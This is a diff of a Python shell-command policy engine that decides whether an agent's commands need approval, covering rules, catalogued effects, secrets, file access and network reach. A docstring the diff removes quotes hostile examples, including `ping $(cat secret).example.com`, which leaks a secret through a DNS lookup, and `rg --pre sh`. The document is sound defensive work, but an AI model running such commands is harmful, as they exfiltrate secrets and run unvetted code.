@@ -1,75 +1,119 @@
 """What is said about one operation: by rules, else by the catalogue, and by the reader itself."""
 
 from execpolicy.catalogue import Cause, Reading
-from execpolicy.catalogue.reading import COMPUTED
 from execpolicy.decision import Decision
+from execpolicy.engine.catalogued import by_effects, confined, removal
 from execpolicy.engine.expand import Step
+from execpolicy.engine.rules import Cover, by_rule
 from execpolicy.engine.scene import Scene
 from execpolicy.errors import printable
 from execpolicy.operation import Access, Assign, Connect, Dynamic, Exec, Opaque, Operation, Word
-from execpolicy.rule import PrefixRule
+from execpolicy.rule import BASES, PrefixRule
 from execpolicy.store.snapshot import Snapshot
 from execpolicy.verdict import Judged, Match
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
-    from collections.abc import Iterator, Sequence
+    from collections.abc import Iterator
 
+    from execpolicy.engine.grants import Weighed
     from execpolicy.operation import Assignment
 
 
-def judge(step: Step, number: int, scene: Scene, cover: Match | None) -> tuple[Judged, int]:
-    """All matches of one step, and how many words of its argv an allow rule names (else 0).
-
-    `cover` is an allow rule on the command around this one that names this one too; it stands in
-    for the catalogue.
-    """
+def judge(
+    step: Step, number: int, scene: Scene, cover: "Cover | None"
+) -> "tuple[Judged, tuple[PrefixRule, ...]]":
+    """All matches of one step, and the allow rules that hold for its command."""
     operation = step.operation
     if step.outer is not None:
         scene = scene.at(number)
     if isinstance(operation, Exec) and step.reading is not None:
         return _exec(operation, step.reading, number, scene, cover)
-    return Judged(operation, tuple(_other(operation, number, scene))), 0
+    if isinstance(operation, Access):
+        bases = scene.overlays.of(operation, number).bases
+        place = max((base.place for base in bases), key=BASES.index)
+        return Judged(operation, tuple(_access(operation, number, scene)), place), ()
+    return Judged(operation, tuple(_other(operation, number, scene))), ()
 
 
 def _exec(
-    operation: Exec, reading: Reading, number: int, scene: Scene, cover: Match | None
-) -> tuple[Judged, int]:
+    operation: Exec,
+    reading: Reading,
+    number: int,
+    scene: Scene,
+    cover: "Cover | None",
+) -> "tuple[Judged, tuple[PrefixRule, ...]]":
     argv, snapshot = operation.argv, scene.snapshot
     reading, shadowed = _in_surroundings(operation, reading, number, scene)
     spellings = _spellings(argv, reading)
-    matches: list[Match] = []
-    allowing: tuple[PrefixRule, ...] = ()
+    tight: tuple[PrefixRule, ...] = ()
+    held: tuple[PrefixRule, ...] = ()
+    inside: tuple[PrefixRule, ...] = ()
+    weighed: Weighed | None = None
     if not snapshot.policy.silent(spellings):
-        matches += [_by_rule(r, argv) for r in snapshot.policy.tightening(spellings)]
+        tight = snapshot.policy.tightening(spellings)
         if not shadowed:
-            allowing = snapshot.policy.allowing(argv, spellings)
-            allowing = _in_place(allowing, operation, reading, number, scene)
-    spoken = bool(allowing or matches)
+            held = snapshot.policy.allowing(argv, spellings)
+            held = _in_place(held, operation, reading, number, scene)
+            inside = snapshot.policy.allowing(argv, spellings, confined=True)
+            inside = _in_place(inside, operation, reading, number, scene)
+    limited = cover.limited if cover is not None and not shadowed else ()
+    if limited or any(rule.conditions for rule in (*tight, *held)):
+        from execpolicy.engine.grants import Command, weigh
+
+        weighed = weigh(tight, held, limited, Command(operation, reading, number, scene))
+        tight = weighed.tight
+    allowing = weighed.allowing if weighed else held
+    spoken = bool(allowing or tight)
+    matches = [by_rule(rule, argv) for rule in tight]
     matches += _beside(operation, reading, spellings, scene)
-    reach = max((len(r.pattern) for r in allowing), default=0)
+    if weighed:
+        matches += weighed.matches
     if allowing:
-        matches.extend(_by_rule(r, argv) for r in allowing)
-        matches.extend(_beyond(operation, reading, snapshot, reach))
+        from execpolicy.engine.open_tail import beyond
+
+        matches.extend(by_rule(rule, argv) for rule in allowing)
+        reach = max(len(rule.pattern) for rule in allowing)
+        matches.extend(beyond(operation, reading, snapshot, reach))
     said, granted, places = _subjects(operation, reading, number, scene)
     matches += said
-    if not any(_names_secret(rule, reading) for rule in allowing):
-        matches.extend(_secrets(operation, reading))
-    if cover is not None and not spoken and not shadowed:
-        matches.append(cover)
+    naming = weighed.naming if weighed else held
+    if not any(_names_secret(rule, reading) for rule in naming):
+        matches.extend(_secrets(operation, reading, snapshot))
+    if cover is not None and cover.match is not None and not spoken and not shadowed:
+        matches.append(cover.match)
     elif not spoken:
-        matches += _effects(operation, reading, snapshot, granted, places)
+        granted |= weighed.numbers if weighed else frozenset()
+        effects = by_effects(operation, reading, number, scene, granted, places)
+        matches += _lowered(effects, inside, operation, reading, number, scene)
     asked = any(m.decision for m in matches)
     if not asked and any(map(_unnamed, reading.effects)) and scene.is_kept(number):
         from execpolicy.engine.subjects import unnamed
 
         matches += unnamed(operation, reading, number, scene)
-    return Judged(operation, tuple(matches)), reach
+    return Judged(operation, tuple(matches)), held
+
+
+def _lowered(
+    effects: list[Match],
+    rules: tuple[PrefixRule, ...],
+    operation: Exec,
+    reading: Reading,
+    number: int,
+    scene: Scene,
+) -> list[Match]:
+    """What the catalogue says, allowed in the sandbox where a rule for it says so."""
+    if not rules:
+        return effects
+    from execpolicy.engine.confining import lowered
+    from execpolicy.engine.grants import Command
+
+    return lowered(rules, Command(operation, reading, number, scene), effects)
 
 
 def _unnamed(cause: Cause) -> bool:
     """Whether it may change files that it does not name."""
-    return cause.effect != "read" and not isinstance(cause.subject, Access)
+    return cause.effect != "read" and (cause.is_code or not isinstance(cause.subject, Access))
 
 
 def _in_surroundings(
@@ -87,28 +131,48 @@ def _in_surroundings(
         found = grounds.causes(operation, reading, number, scene)
     planted = scene.planted(name) if "/" not in name else None
     if planted is not None:
-        found = (*found, Cause("execute", f"`{name}` is `{planted}` here, code of the project"))
+        why = f"`{name}` is `{planted}` here, code of the project"
+        found = (*found, Cause("execute", why, Access(planted, "execute")))
     effects = reading.effects
-    if any(cause.if_missing or cause.where for cause in effects):
-        effects = tuple(c for c in effects if _happens(c, number, scene))
+    if any(cause.if_missing or cause.where or cause.hooks or cause.missing for cause in effects):
+        effects = _happening(effects, number, scene)
     if found or effects is not reading.effects:
         reading = reading.replace(effects=(*effects, *found) or _ONLY_READS)
+    if "/" in name or any(cause.is_code for cause in reading.effects):
+        from execpolicy.engine.own_code import settled
+
+        reading = settled(operation, reading, number, scene)
     return reading, planted is not None
 
 
 _ONLY_READS = (Cause("read", "only reads"),)
 
 
-def _happens(cause: Cause, number: int, scene: Scene) -> bool:
-    """Whether an effect that depends on the files of the project may happen here."""
+def _happening(effects: tuple[Cause, ...], number: int, scene: Scene) -> tuple[Cause, ...]:
+    """The effects that may happen here, as far as they depend on the files of the project."""
+    settings = dict.fromkeys(s for cause in effects if not cause.hooks for s in cause.where)
+    if settings and not _holds(tuple(settings), number, scene):
+        effects = tuple(cause for cause in effects if cause.hooks or not cause.where)
+    return tuple(cause for cause in effects if _happens(cause, len(settings), number, scene))
+
+
+def _happens(cause: Cause, settings: int, number: int, scene: Scene) -> bool:
+    """Whether an effect may happen, where the project has one of so many settings."""
+    if cause.hooks:
+        from execpolicy.engine.git_code import runs
+
+        return runs(number, scene)
     if cause.where:
-        directories = scene.where.of(number)
-        return not directories or any(
-            scene.resolver.holds(directory, setting)
-            for directory in directories
-            for setting in cause.where
-        )
+        return settings <= 1 or _holds(cause.where, number, scene)
+    if cause.missing:
+        return not _is_file(cause.missing, number, scene)
     return not (cause.if_missing and _is_there(cause, number, scene))
+
+
+def _holds(settings: tuple[str, ...], number: int, scene: Scene) -> bool:
+    """Whether the project of a step may have one of the settings."""
+    directories = scene.where.of(number)
+    return not directories or any(scene.resolver.holds(at, *settings) for at in directories)
 
 
 def _is_there(cause: Cause, number: int, scene: Scene) -> bool:
@@ -116,7 +180,11 @@ def _is_there(cause: Cause, number: int, scene: Scene) -> bool:
     subject = cause.subject
     if not isinstance(subject, Access) or not isinstance(subject.path, str):
         return False
-    found = scene.overlays.absolute(subject.path, number)
+    return _is_file(subject.path, number, scene)
+
+
+def _is_file(path: str, number: int, scene: Scene) -> bool:
+    found = scene.overlays.absolute(path, number)
     return bool(found) and all(scene.resolver.kind(path) == "file" for path in found)
 
 
@@ -173,13 +241,13 @@ def _names_secret(rule: PrefixRule, reading: Reading) -> bool:
     return all(not c.by or any(w.startswith(c.by) for w in words) for c in reading.secrets)
 
 
-def _secrets(operation: Exec, reading: Reading) -> "Iterator[Match]":
+def _secrets(operation: Exec, reading: Reading, snapshot: Snapshot) -> "Iterator[Match]":
     """A program that shows a secret which it keeps itself, or gets from elsewhere."""
     for cause in reading.secrets:
         why = f"shows a secret ({cause.why})" if cause.why else "shows a secret"
         yield Match(
             "place",
-            Decision.PROMPT,
+            max(Decision.PROMPT, snapshot.stance.decide("read", ("credentials",))),
             why,
             reading.origin,
             effects=("read",),
@@ -199,17 +267,18 @@ def _subjects(
     said: list[Match] = []
     granted = set[int]()
     places: dict[int, tuple[str, ...]] = {}
-    for at, cause in enumerate(reading.effects):
-        if cause.subject is None:
-            continue
-        from execpolicy.engine.subjects import accessed, connected, shown
+    touching = [(at, c.subject) for at, c in enumerate(reading.effects) if c.subject is not None]
+    if not touching:
+        return said, granted, places
+    from execpolicy.engine.subjects import accessed, connected, shown
 
-        if isinstance(cause.subject, Access):
-            found, lifted, places[at] = accessed(cause.subject, number, scene)
-        elif isinstance(cause.subject, Connect):
-            found, lifted = connected(cause.subject, scene.snapshot)
+    for at, subject in touching:
+        if isinstance(subject, Access):
+            found, lifted, places[at] = accessed(subject, number, scene)
+        elif isinstance(subject, Connect):
+            found, lifted = connected(subject, scene.snapshot)
         else:
-            found, lifted = shown(cause.subject, operation, scene), False
+            found, lifted = shown(subject, operation, scene), False
         said += found
         if lifted:
             granted.add(at)
@@ -228,14 +297,6 @@ def _spellings(argv: tuple[Word, ...], reading: Reading) -> "list[tuple[Word, ..
         if one and isinstance(one[0], str) and "/" in one[0]:
             spellings.append((one[0].rpartition("/")[2], *one[1:]))
     return spellings
-
-
-def _by_rule(rule: PrefixRule, argv: tuple[Word, ...]) -> Match:
-    words = tuple(w if isinstance(w, str) else w.source for w in argv[: len(rule.pattern)])
-    pattern = " ".join("|".join(tokens) for tokens in rule.pattern)
-    why = rule.justification or f"a rule for `{pattern}` says {rule.decision.word}"
-    just = rule.justification
-    return Match("rule", rule.decision, why, rule.origin, words, just, about=argv)
 
 
 def _possible(
@@ -278,98 +339,24 @@ def _evaluated(assignment: "Assignment", reading: Reading) -> bool:
     return any(assignment.name in text for text in texts)
 
 
-_RUNNING = frozenset(("execute", "privilege"))
+def _opaque(operation: Opaque, number: int, scene: Scene) -> Match:
+    if operation.text.startswith(("source ", ". ")):
+        words = tuple(operation.text.split())
+        if not scene.snapshot.policy.silent((words,)):
+            from execpolicy.engine.grants import sourced
 
-
-def _beyond(operation: Exec, reading: Reading, snapshot: Snapshot, reach: int) -> "Iterator[Match]":
-    """What a rule's open tail does not cover: an option that makes a program run something else.
-
-    `rg` only reads, so a rule for it does not mean `rg --pre sh`; `make` runs recipes anyway. A
-    rule that names the option means it. A script in the words that is not understood may do so
-    too. Nor does it cover a word computed by a command, where that
-    can carry data out: `ping $(cat secret).example.com`.
-    """
-    named = tuple(word for word in operation.argv[:reach] if isinstance(word, str))
-    anyway = any(c.effect in _RUNNING and not c.by for c in reading.effects)
-    for cause in reading.effects:
-        if cause.by == COMPUTED:
-            continue  # a computed word may stand where a rule leaves the tail open
-        unread = cause.effect == "unknown" and cause.by[:1] not in ("", "-")
-        beyond = (cause.effect in _RUNNING and cause.by) or unread
-        if beyond and not anyway and not any(word.startswith(cause.by) for word in named):
-            why, effects = f"{cause.effect} ({cause.why})", (cause.effect,)
-            decision = snapshot.stance.decide(cause.effect)
-            yield Match(
-                "catalogue", decision, why, reading.origin, effects=effects, about=operation.argv
-            )
-    reaches = any(c.effect == "network" for c in reading.effects)
-    if reaches and any(map(_from_a_command, operation.argv)):
-        why = "sends what a command prints to the network"
-        yield Match("reader", Decision.PROMPT, why, about=operation.argv)
-
-
-def _from_a_command(word: Word) -> bool:
-    """Whether the output of a command is part of a word."""
-    return isinstance(word, Dynamic) and ("$(" in word.source or "`" in word.source)
-
-
-def _effects(
-    operation: Exec,
-    reading: Reading,
-    snapshot: Snapshot,
-    granted: set[int],
-    places: "dict[int, tuple[str, ...]]",
-) -> list[Match]:
-    """One match an effect, with all its causes in words, but for what an allow rule granted."""
-    causes = [(c, places.get(at, ())) for at, c in enumerate(reading.effects) if at not in granted]
-    if len(causes) == 1:
-        cause, touched = causes[0]
-        return [_by_effect((cause,), touched, operation, reading, snapshot)]
-    said: dict[str, list[Cause]] = {}
-    where: dict[str, tuple[str, ...]] = {}
-    for cause, touched in causes:
-        said.setdefault(cause.effect, []).append(cause)
-        where[cause.effect] = (*where.get(cause.effect, ()), *touched)
-    return [
-        _by_effect(each, tuple(dict.fromkeys(where[effect])), operation, reading, snapshot)
-        for effect, each in said.items()
-    ]
-
-
-def _by_effect(
-    causes: "Sequence[Cause]",
-    places: tuple[str, ...],
-    operation: Exec,
-    reading: Reading,
-    snapshot: Snapshot,
-) -> Match:
-    effect = causes[0].effect
-    words = _joined(causes)
-    general = [cause for cause in causes if not (cause.subject or cause.by)]
-    return Match(
-        "catalogue",
-        snapshot.stance.decide(effect),
-        f"{effect} ({words})" if words else effect,
-        reading.origin,
-        effects=(effect,),
-        about=operation.argv,
-        places=places,
-        posture=snapshot.stance.layer(effect),
-        said=_joined(general) or words,
-    )
-
-
-def _joined(causes: "Sequence[Cause]") -> str:
-    """What several causes say, nothing twice."""
-    return "; ".join({cause.why: None for cause in causes if cause.why})
+            allowed = sourced(operation, number, scene)
+            if allowed is not None:
+                return allowed
+    why = f"`{printable(operation.text, 60)}`: {operation.why}"
+    return Match("reader", Decision.PROMPT, why)
 
 
 def _other(operation: Operation, number: int, scene: Scene) -> "Iterator[Match]":
     """Matches of an operation that is no command."""
     variables, stance = scene.snapshot.variables, scene.snapshot.stance
     if isinstance(operation, Opaque):
-        why = f"`{printable(operation.text, 60)}`: {operation.why}"
-        yield Match("reader", Decision.PROMPT, why)
+        yield _opaque(operation, number, scene)
     elif isinstance(operation, Assign):
         name = operation.assignment.name
         if variables.tame(name, operation.assignment.value):
@@ -378,23 +365,6 @@ def _other(operation: Operation, number: int, scene: Scene) -> "Iterator[Match]"
             yield Match("reader", Decision.PROMPT, f"`{name}` changes what programs do")
         elif operation.assignment.exported and not variables.harmless(name):
             yield Match("reader", Decision.PROMPT, f"what exporting `{name}` changes is not known")
-    elif isinstance(operation, Access):
-        from execpolicy.engine.subjects import accessed
-
-        matches, lifted, places = accessed(operation, number, scene)
-        yield from matches
-        if not lifted and not any(m.source == "rule" for m in matches):
-            path = operation.path if isinstance(operation.path, str) else operation.path.source
-            effect = "destroy" if operation.mode == "remove" else operation.mode
-            why = f"{operation.mode}s `{printable(path, 60)}`"
-            yield Match(
-                "catalogue",
-                stance.decide(effect),
-                why,
-                effects=(effect,),
-                places=places,
-                posture=stance.layer(effect),
-            )
     elif isinstance(operation, Connect):
         from execpolicy.engine.subjects import allowing_hosts, by_network, connected
 
@@ -408,3 +378,26 @@ def _other(operation: Operation, number: int, scene: Scene) -> "Iterator[Match]"
             yield Match(
                 "catalogue", decision, why, effects=("network",), posture=stance.layer("network")
             )
+
+
+def _access(operation: Access, number: int, scene: Scene) -> "Iterator[Match]":
+    """Matches of a path that the shell opens, or a tool of a host."""
+    from execpolicy.engine.subjects import accessed
+
+    stance = scene.snapshot.stance
+    matches, lifted, places = accessed(operation, number, scene)
+    yield from matches
+    if lifted or any(m.source == "rule" for m in matches):
+        return
+    path = operation.path if isinstance(operation.path, str) else operation.path.source
+    effect = removal(operation, number, scene) if operation.mode == "remove" else operation.mode
+    spoken = () if operation.extent == "names" else places
+    yield Match(
+        "catalogue",
+        stance.decide(effect, spoken),
+        f"{operation.mode}s `{printable(path, 60)}`",
+        effects=(effect,),
+        places=places,
+        posture=stance.layer(effect, spoken),
+        confined=confined(effect, spoken, operation, "", stance),
+    )
